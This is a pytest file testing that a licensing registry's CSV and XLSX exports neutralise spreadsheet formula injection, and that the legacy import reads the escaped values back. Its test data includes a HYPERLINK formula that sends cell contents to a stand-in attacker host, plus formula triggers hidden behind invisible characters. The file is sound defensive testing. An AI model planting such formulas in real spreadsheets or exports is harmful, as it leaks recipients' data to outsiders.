"""Exports are records sent to another Party's authority (Art. 21.1(a)); whoever opens one in a
spreadsheet must not run a formula an applicant typed (a security measure: CSV / formula
injection, OWASP). Issue 14: in XLSX every text cell is written as text, exactly as held (no
formula, no protective quote); in CSV a cell whose first visible character is = + - @ gets a
leading quote, even behind spaces, NO-BREAK SPACE, a byte-order mark or zero-width characters.
Both through the service every export goes through, ``export_records``."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from typing import Any

import openpyxl
import pytest

from licensing.exchange.escaping import escape_cell
from licensing.exchange.export import export_records
from licensing.models import Party
from tests.factories import PartyFactory

pytestmark = pytest.mark.django_db

PHONE = "+47 22 00 00 01"
HOSTILE = '=HYPERLINK("https://attacker.invalid/?"&A1,"Click")'
# Text a spreadsheet would take for a formula, an error value or a command, each in a field an
# applicant fills in. Every one must come back from the workbook exactly as typed.
XLSX_TEXT = {
    "legal_name": "Fjordtobakk AS",
    "trade_name": HOSTILE,
    "phone": PHONE,
    "email": "post@fjord.example",
    "place_of_incorporation": "@SUM(1+1)",
    "headquarters_address": "-1+1",
    "principal_place_of_business": "\u00a0=1+1",
    "address": "#N/A",  # an error value if it were not written as text
}
# Leading characters that make a spreadsheet read a CSV cell as a formula; the invisible ones
# (NBSP, BOM, zero-width) hide the trigger from a reader and from a naive ``startswith`` check.
CSV_FORMULAS = [
    "=1+1",
    " =1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b+1+1",
    "\u200c-1+1",
    "\u200d@SUM(A1)",
    "\u2060=1+1",
    " \u00a0\ufeff\u200b=1+1",
    "\t@SUM(A1)",
    "\t",
    "\r=1+1",
    "\n=1+1",
    "-1+1",
    "+1+1",
    "@SUM(A1)",
    PHONE,  # in CSV a spreadsheet would compute "+47 22 ..." as a number: quoted
    HOSTILE,
]
ORDINARY = {
    "legal_name": "Fjordtobakk AS",
    "email": "post@fjord.example",
    "place_of_incorporation": "2026-12-04",
    "headquarters_address": "Ås-Vest 1, 0154 Oslo",
    "principal_place_of_business": "O'Brien & Sønner, 9008 Tromsø",
}


def export(fmt: str, by: Any, *parties: Party) -> bytes:
    records = Party.objects.filter(pk__in=[p.pk for p in parties])
    return export_records(records=records, fmt=fmt, by=by).content


def csv_rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert names, "the workbook has a worksheet"
        return "".join(archive.read(n).decode() for n in names)


# XLSX


def test_xlsx_writes_every_text_exactly_as_text_and_no_formula(registrar):
    party = PartyFactory(**XLSX_TEXT, date_of_incorporation=dt.date(2004, 3, 1))
    content = export("xlsx", registrar, party)

    # No formula element in the file itself, whatever a reader library makes of it.
    assert not re.search(r"<(\w+:)?f[\s>/]", sheet_xml(content))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    row = {name: cell for name, cell in zip(header, next(sheet.iter_rows(min_row=2)), strict=True)}
    for name, text in XLSX_TEXT.items():
        assert row[name].value == text, name  # no apostrophe added, nothing stripped
        assert row[name].data_type == "s", name
    # Numbers and dates keep their types.
    assert row["id"].value == party.pk and row["id"].data_type == "n"
    assert row["date_of_incorporation"].value == dt.datetime(2004, 3, 1)


def test_xlsx_marks_formula_like_text_so_editing_the_cell_keeps_it_text(registrar):
    # The cell style's quotePrefix is the spreadsheet's own "this is text" mark: invisible, not
    # part of the value, and it survives the user pressing F2 and Enter in the cell.
    party = PartyFactory(trade_name=HOSTILE, phone=PHONE, legal_name="Fjordtobakk AS")
    sheet = openpyxl.load_workbook(io.BytesIO(export("xlsx", registrar, party))).active
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    row = dict(zip(header, next(sheet.iter_rows(min_row=2)), strict=True))
    assert row["trade_name"].quotePrefix and row["phone"].quotePrefix
    assert not row["legal_name"].quotePrefix


def test_xlsx_with_a_control_character_still_exports(registrar):
    # XML cannot hold most C0 controls; one pasted into a name must not make the export fail.
    party = PartyFactory(trade_name="Fjord\x01tobakk")
    sheet = openpyxl.load_workbook(io.BytesIO(export("xlsx", registrar, party))).active
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    values = dict(zip(header, next(sheet.iter_rows(min_row=2, values_only=True)), strict=True))
    assert values["trade_name"] == "Fjord\ufffdtobakk"


# CSV


@pytest.mark.parametrize("value", CSV_FORMULAS, ids=ascii)
def test_csv_neutralises_a_formula_behind_invisible_characters(registrar, value):
    party = PartyFactory(trade_name=value, **ORDINARY)
    (row,) = csv_rows(export("csv", registrar, party))
    assert row["trade_name"] == "'" + value
    for name, text in ORDINARY.items():
        assert row[name] == text, name
    assert row["id"] == str(party.pk)


def test_csv_leaves_ordinary_text_numbers_and_dates_alone(registrar):
    party = PartyFactory(
        **ORDINARY, trade_name="", phone="", date_of_incorporation=dt.date(2004, 3, 1)
    )
    (row,) = csv_rows(export("csv", registrar, party))
    for name, text in ORDINARY.items():
        assert row[name] == text, name
    assert row["trade_name"] == row["phone"] == ""
    assert row["id"] == str(party.pk)
    assert row["date_of_incorporation"] == "2004-03-01"


@pytest.mark.parametrize(
    "value", ["Fjordtobakk AS", "post@fjord.example", "2026-12-04", "C-3PO", "'t Hoekje", ""]
)
def test_escape_cell_keeps_ordinary_text(value):
    assert escape_cell(value) == value


@pytest.mark.parametrize("value", [-5, -0.5, 0, dt.date(2026, 12, 4), None, True])
def test_escape_cell_keeps_numbers_and_dates_typed(value):
    # A negative number stored as a number is not text: quoting it would make it text.
    assert escape_cell(value) is value


@pytest.mark.parametrize("hidden", ["", " ", "\u00a0", "\ufeff", "\u200b"])
def test_the_import_reads_back_what_the_csv_export_escaped_and_refuses_a_hidden_formula(
    hidden: str,
) -> None:
    """The legacy import (licensing.exchange.reading) takes our quote off again, also before
    invisible characters, and refuses a formula hidden behind them."""
    from licensing.exchange.reading import read_table

    escaped_text = f"'{hidden}=1+1"
    content = f"name,other\n{escaped_text},x\n{hidden}=HYPERLINK(1),y\n".encode()
    table = read_table(content, "register.csv")
    assert table.rows[0][1]["name"] == escaped_text[1:]  # the value as it was exported
    assert len(table.errors) == 1  # the hidden formula of the second row, by its row
